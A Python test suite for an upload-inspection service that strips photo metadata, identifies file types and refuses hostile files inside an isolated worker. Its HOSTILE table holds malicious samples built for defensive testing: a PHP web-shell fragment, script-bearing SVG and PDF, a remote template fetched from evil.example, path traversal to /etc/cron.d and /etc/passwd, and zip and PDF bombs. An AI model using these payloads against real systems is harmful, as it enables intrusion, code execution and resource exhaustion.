"""Files looked into by the process that does it: what is told of good ones, and by which rule bad ones are refused."""

import ast
import asyncio
import io
import os
import signal
import socket
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from PIL import Image, ImageEnhance

from runtime.errors import Retryable
from services.inspection.adapters import intake_process
from services.inspection.adapters.intake import __main__ as process
from services.inspection.adapters.intake import template
from services.inspection.adapters.intake.packages import DOCX, XLSX
from services.inspection.adapters.intake_process import IntakeProcess
from services.inspection.application.looks import NEAR, distance
from services.inspection.application.ports import Examined
from services.inspection.domain.rules import Broken
from services.inspection.domain.rules_evidence import INTAKE, FileTooCostly
from tests import evidence_samples as samples
from tests.ledger_world import eventually


@asynccontextmanager
async def an_intake() -> AsyncIterator[IntakeProcess]:
    intake = IntakeProcess()
    try:
        yield intake
    finally:
        await intake.stop()


async def examined(data: bytes, intake: IntakeProcess | None = None) -> Examined:
    if intake is None:
        async with an_intake() as own:
            return await examined(data, own)
    with tempfile.TemporaryFile() as file:
        file.write(data)
        return await intake.examine(file)


async def refusal(data: bytes) -> str:
    with pytest.raises(Broken) as broken:
        await examined(data)
    assert broken.value.text_zh
    return broken.value.code


def look(seen: Examined) -> str:
    assert seen.picture is not None
    assert seen.picture.look is not None
    return seen.picture.look


async def test_time_and_place_are_told_and_gone_from_what_is_shown() -> None:
    data = samples.taken(3)
    assert b"TelephoneMaker" in data
    seen = await examined(data)
    assert seen.picture is not None
    assert (seen.picture.taken_at, seen.picture.latitude, seen.picture.longitude) == (
        "2026-09-21T08:30:00", 46_800_000, 130_375_000,
    )  # fmt: skip
    for shown in (seen.shown, seen.thumb):
        assert shown is not None
        image = Image.open(io.BytesIO(shown))
        assert (image.format, dict(image.getexif())) == ("JPEG", {})
        assert b"TelephoneMaker" not in shown
    assert seen.size == len(data)


async def test_what_is_shown_fits_a_screen_and_a_thumbnail_a_list() -> None:
    seen = await examined(samples.photograph(4, (6000, 4000), quality=60))
    assert seen.picture is not None
    assert (seen.picture.width, seen.picture.height) == (2560, 1707)
    assert seen.thumb is not None
    assert Image.open(io.BytesIO(seen.thumb)).size == (320, 213)


async def test_a_picture_taken_upright_is_shown_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    seen = await examined(samples.encoded(samples.scene(5), exif=exif))
    assert seen.picture is not None
    assert (seen.picture.width, seen.picture.height) == (480, 640)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
async def test_every_kind_of_picture_is_told_by_its_content(kind: str) -> None:
    seen = await examined(samples.encoded(samples.scene(6), kind))
    assert seen.media_type == f"image/{kind.lower()}"
    assert seen.shown is not None


async def test_documents_are_told_by_their_content() -> None:
    assert (await examined(samples.package())).media_type == DOCX
    assert (await examined(samples.package(main=samples.SHEET))).media_type == XLSX
    paper = await examined(samples.paper())
    assert (paper.media_type, paper.picture, paper.shown) == ("application/pdf", None, None)


async def test_a_photograph_made_smaller_paler_and_written_anew_looks_the_same_and_another_does_not() -> None:
    own = look(await examined(samples.photograph(7)))
    paler = ImageEnhance.Brightness(samples.scene(7, (400, 300))).enhance(1.1)
    assert distance(own, look(await examined(samples.encoded(paler, quality=55)))) <= NEAR
    assert distance(own, look(await examined(samples.encoded(samples.scene(7), "PNG")))) <= NEAR
    others = [look(await examined(samples.photograph(seed))) for seed in range(20, 26)]
    assert all(distance(own, other) > NEAR for other in others)


async def test_a_blank_wall_looks_like_nothing() -> None:
    seen = await examined(samples.encoded(Image.new("RGB", (64, 64), "white"), "PNG"))
    assert seen.picture is not None
    assert seen.picture.look is None


async def test_a_second_picture_that_a_camera_appends_does_no_harm() -> None:
    assert (await examined(samples.photograph(8) + samples.photograph(9))).media_type == "image/jpeg"


PHOTO = samples.photograph(1)
LARGE = samples.photograph(4, (6000, 4000), quality=60)
SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
TEMPLATE = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
ENTITY = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'


def encrypted() -> bytes:
    data = bytearray(samples.package())
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """A directory whose entries all name the same compressed bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", b"\x00" * 8_000_000)
        kernel = made.infolist()[0]
        for number in range(2000):
            twin = zipfile.ZipInfo(f"p{number}")
            twin.header_offset, twin.file_size, twin.compress_size = 0, kernel.file_size, kernel.compress_size
            twin.CRC, twin.compress_type = kernel.CRC, kernel.compress_type
            made.filelist.append(twin)
    return out.getvalue()


HOSTILE: Mapping[str, tuple[bytes, str]] = {
    "nothing": (b"", "evidence-type"),
    "text": (b"hello", "evidence-type"),
    "program": (b"MZ" + bytes(200), "evidence-type"),
    "svg with a script": (SCRIPT, "evidence-type"),
    "html": (b"<html><script>alert(1)</script>", "evidence-type"),
    "gif": (samples.encoded(samples.scene(1), "GIF"), "evidence-type"),
    "zip that is no document": (samples.package(main="application/x-other"), "evidence-type"),
    "cut JPEG": (PHOTO[: len(PHOTO) // 2], "picture-broken"),
    "JPEG's first bytes": (b"\xff\xd8\xff\xe0photo", "picture-broken"),
    "PNG with a wrong checksum": (samples.encoded(samples.scene(1), "PNG")[:40] + b"x" * 2000, "picture-broken"),
    "JPEG, then a zip": (PHOTO + samples.package(), "file-polyglot"),
    "JPEG, then a script": (PHOTO + SCRIPT, "file-polyglot"),
    "JPEG, then a program": (PHOTO + b"\x7fELF" + bytes(64), "file-polyglot"),
    "JPEG with a PDF in a comment": (PHOTO[:2] + b"\xff\xfe\x00\x0a%PDF-1.7" + PHOTO[2:], "file-polyglot"),
    "PNG, then PHP": (samples.encoded(samples.scene(1), "PNG") + b"<?php system($_GET[0]);", "file-polyglot"),
    "PDF, then a zip": (samples.paper() + samples.package(), "file-polyglot"),
    "zip before a document": (samples.package({"a": b"1"}) + samples.package(), "file-polyglot"),
    "zip with bytes behind": (samples.package() + b"<script>", "file-polyglot"),
    "pixels that are only said": (samples.said_pixels(60_000, 60_000), "picture-too-large"),
    "flood of pixels": (samples.pixel_flood(20_000, 20_000), "picture-too-large"),
    "zip bomb": (samples.package({"word/media/a.xml": bytes(64_000_000)}), "document-bomb"),
    "zip bomb of shared bytes": (overlapping(), "document-bomb"),
    "very many parts": (samples.package({f"p{n}": b"" for n in range(4000)}), "document-bomb"),
    "path upwards": (samples.package({"word/../../../etc/cron.d/x": b"1"}), "document-path"),
    "path from the root": (samples.package({"/etc/passwd": b"1"}), "document-path"),
    "path of a drive": (samples.package({"C:\\x.dll": b"1"}), "document-path"),
    "macros": (samples.package({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "document-macro"),
    "macros told of": (
        samples.package(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "document-macro",
    ),
    "ActiveX": (samples.package({"word/activeX/activeX1.bin": b"1"}), "document-macro"),
    "template from elsewhere": (samples.package({"word/_rels/settings.xml.rels": TEMPLATE}), "document-external"),
    "entities": (samples.package({"word/document.xml": ENTITY}), "document-entity"),
    "entities in relations": (samples.package({"word/_rels/document.xml.rels": ENTITY}), "document-entity"),
    "encrypted package": (encrypted(), "document-encrypted"),
    "cut package": (samples.package()[:200], "document-broken"),
    "PDF with a script": (samples.paper(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "pdf-active"),
    "PDF with a disguised script": (samples.paper(b"/OpenAction<</S/J#61vaScript>>"), "pdf-active"),
    "PDF with a packed script": (samples.paper(objects=b"<</S/JavaScript/JS(1)>>"), "pdf-active"),
    "PDF with a program to launch": (samples.paper(b"/AA<</S/Launch>>"), "pdf-active"),
    "PDF with a file inside": (samples.paper(b"/Names<</EmbeddedFiles 5 0 R>>"), "pdf-active"),
    "encrypted PDF": (samples.paper(b"/Encrypt 9 0 R"), "document-encrypted"),
    "PDF bomb": (samples.paper(objects=bytes(80_000_000)), "document-bomb"),
    "PDF without an end": (b"%PDF-1.7\n1 0 obj<<>>endobj\n", "document-broken"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_file_is_refused_by_name(name: str) -> None:
    data, rule = HOSTILE[name]
    assert await refusal(data) == rule


def test_every_rule_of_the_intake_but_the_bounds_has_a_hostile_file() -> None:
    assert {rule for _, rule in HOSTILE.values()} | {FileTooCostly.code} == set(INTAKE)


async def test_a_link_in_a_document_is_no_template() -> None:
    assert (await examined(samples.package({"word/_rels/document.xml.rels": LINK}))).media_type == DOCX


async def test_a_process_that_runs_out_of_time_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(intake_process, "SECONDS", 0.0)
    assert await refusal(PHOTO) == FileTooCostly.code


def children(pid: int) -> list[int]:
    try:
        return [int(child) for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except FileNotFoundError:
        return []


def runs(pid: int) -> bool:
    return Path(f"/proc/{pid}").exists()


@asynccontextmanager
async def a_template() -> AsyncIterator[tuple[IntakeProcess, int]]:
    """An intake whose template runs, and the template's id."""
    before = set(children(os.getpid()))
    async with an_intake() as intake:
        await examined(PHOTO, intake)
        (template,) = set(children(os.getpid())) - before
        yield intake, template


async def test_a_template_that_died_is_replaced() -> None:
    async with a_template() as (intake, pid):
        os.kill(pid, signal.SIGKILL)
        await eventually(lambda: pid not in children(os.getpid()))
        assert (await examined(PHOTO, intake)).media_type == "image/jpeg"


async def test_a_file_that_nobody_waits_for_any_more_is_looked_into_no_longer(monkeypatch: pytest.MonkeyPatch) -> None:
    async with a_template() as (intake, pid):
        monkeypatch.setattr(intake_process, "SECONDS", 0.0)
        with pytest.raises(FileTooCostly):
            await examined(LARGE, intake)
        await eventually(lambda: not children(pid))


async def test_whoever_stops_the_intake_leaves_no_process() -> None:
    async with a_template() as (intake, pid):
        looking = asyncio.create_task(examined(LARGE, intake))
        await eventually(lambda: bool(children(pid)))
        (child,) = children(pid)
        await intake.stop()
        assert not runs(child)
        with pytest.raises((FileTooCostly, Retryable)):
            await looking


TELLING = """
import os, signal, socket
from services.inspection.adapters.intake.template import serve
def answer():
    if os.read(0, 9) == b"wait":
        os.write(1, b"waits")
        signal.pause()
    held = sorted(os.listdir("/proc/self/fd"), key=int)
    os.write(1, repr(held).encode())
serve(socket.socket(fileno=0), answer)
"""


def test_a_files_process_holds_nothing_but_its_own_file_and_answer() -> None:
    control, theirs = socket.socketpair()
    with subprocess.Popen([sys.executable, "-c", TELLING], stdin=theirs.fileno()), control:
        theirs.close()
        with _asked(control, b"wait") as waiting:
            assert waiting.recv(6, socket.MSG_WAITALL) == template.BEGUN + b"waits"
            with _asked(control, b"tell") as telling:
                told = b"".join(iter(lambda: telling.recv(999), b""))
            # Input, answer, the sink of errors, its life; the last one is the listing itself.
            assert ast.literal_eval(told.removeprefix(template.BEGUN).decode()) == ["0", "1", "2", "3", "4"]
            control.close()
            assert waiting.recv(99) == b""


def _asked(control: socket.socket, data: bytes) -> socket.socket:
    ours, reply = socket.socketpair()
    with reply, tempfile.TemporaryFile() as file:
        file.write(data)
        file.seek(0)
        socket.send_fds(control, [template.BEGUN], [file.fileno(), reply.fileno()])
    return ours


# A process counts as its own what its parent had when it was made, so that a small one stands between; what its
# children's children had is counted with them.
MEASURED = """
import resource, socket, subprocess, sys
control, theirs = socket.socketpair()
template = subprocess.Popen([sys.executable, "-I", "-m", sys.argv[1]], stdin=theirs, stdout=subprocess.DEVNULL)
theirs.close()
ours, reply = socket.socketpair()
socket.send_fds(control, [b"+"], [0, reply.fileno()])
reply.close()
size = 0
while chunk := ours.recv(1 << 16):
    size += len(chunk)
control.close()
assert template.wait() == 0 and size > 1
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024)
"""


def peak(data: bytes) -> int:
    """The most memory that the process had, in bytes."""
    with tempfile.TemporaryFile() as file:
        file.write(data)
        file.seek(0)
        command = [sys.executable, "-c", MEASURED, intake_process.MODULE]
        return int(subprocess.run(command, stdin=file, capture_output=True, check=True).stdout)


@pytest.mark.parametrize("name", ["flood of pixels", "zip bomb", "zip bomb of shared bytes", "PDF bomb"])
def test_a_bomb_takes_little_memory(name: str) -> None:
    assert peak(HOSTILE[name][0]) < 128 * 1024 * 1024


def test_the_largest_pictures_stay_within_what_is_allowed() -> None:
    largest_png = samples.encoded(samples.scene(5, (4800, 3300)).convert("RGBA"), "PNG")
    assert peak(largest_png) < process.MEMORY
    assert peak(samples.photograph(4, (12_000, 9_000), quality=40)) < process.MEMORY
